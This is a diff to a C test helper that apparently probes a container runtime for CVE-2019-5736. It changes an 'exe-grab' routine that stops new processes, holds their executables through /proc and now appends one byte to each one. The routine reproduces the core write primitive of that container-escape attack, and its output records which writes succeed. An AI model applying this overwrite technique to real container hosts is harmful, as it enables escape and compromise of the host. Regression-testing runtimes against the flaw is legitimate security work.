@@ -282,9 +282,27 @@ static int cmd_exit(int argc, char **argv)
 
 /* exe-grab: the CVE-2019-5736 attacker. Watches /proc for new processes; stops
  * each one at once, holds an O_PATH fd of its exe and reports it; on SIGUSR1
- * tries to reopen every held exe for writing (without writing), reports, exits.
+ * tries to write to every held exe (one byte appended), reports, exits.
  * Lines: "caught PID LINK DEV:INO wr=RESULT" and "final DEV:INO wr=RESULT". */
 #define GRAB_MAX 4096
+
+/* Reopens a held exe for writing and writes one byte at its end: "written",
+ * or where it failed ("open:ETXTBSY", "write:EPERM"). */
+static void try_write(int fd, char *result, size_t size)
+{
+        char again[64];
+        snprintf(again, sizeof(again), "/proc/self/fd/%d", fd);
+        int w = open(again, O_WRONLY | O_APPEND | O_CLOEXEC);
+        if (w < 0) {
+                snprintf(result, size, "open:%s", strerrorname_np(errno));
+                return;
+        }
+        if (write(w, "X", 1) == 1)
+                snprintf(result, size, "written");
+        else
+                snprintf(result, size, "write:%s", strerrorname_np(errno));
+        close(w);
+}
 static int cmd_exe_grab(int argc, char **argv)
 {
         (void)argc, (void)argv;
@@ -320,14 +338,8 @@ static int cmd_exe_grab(int argc, char **argv)
                         link[len > 0 ? len : 0] = '\0';
                         struct stat st = { 0 };
                         char wr[64] = "none";
-                        if (fd >= 0 && fstat(fd, &st) == 0) {
-                                char again[64];
-                                snprintf(again, sizeof(again), "/proc/self/fd/%d", fd);
-                                int w = open(again, O_WRONLY | O_CLOEXEC);
-                                snprintf(wr, sizeof(wr), "%s", w >= 0 ? "ok" : strerrorname_np(errno));
-                                if (w >= 0)
-                                        close(w);
-                        }
+                        if (fd >= 0 && fstat(fd, &st) == 0)
+                                try_write(fd, wr, sizeof(wr));
                         kill(pid, SIGCONT);
                         printf("caught %d %s %lu:%lu wr=%s\n", pid, link[0] ? link : "-", (unsigned long)st.st_dev,
                                (unsigned long)st.st_ino, fd >= 0 ? wr : strerrorname_np(errno));
@@ -341,11 +353,9 @@ static int cmd_exe_grab(int argc, char **argv)
         for (int i = 0; i < n_held; i++) {
                 struct stat st;
                 fstat(held[i], &st);
-                char again[64];
-                snprintf(again, sizeof(again), "/proc/self/fd/%d", held[i]);
-                int w = open(again, O_WRONLY | O_CLOEXEC);
-                printf("final %lu:%lu wr=%s\n", (unsigned long)st.st_dev, (unsigned long)st.st_ino,
-                       w >= 0 ? "ok" : strerrorname_np(errno));
+                char wr[64];
+                try_write(held[i], wr, sizeof(wr));
+                printf("final %lu:%lu wr=%s\n", (unsigned long)st.st_dev, (unsigned long)st.st_ino, wr);
         }
         return 0;
 }
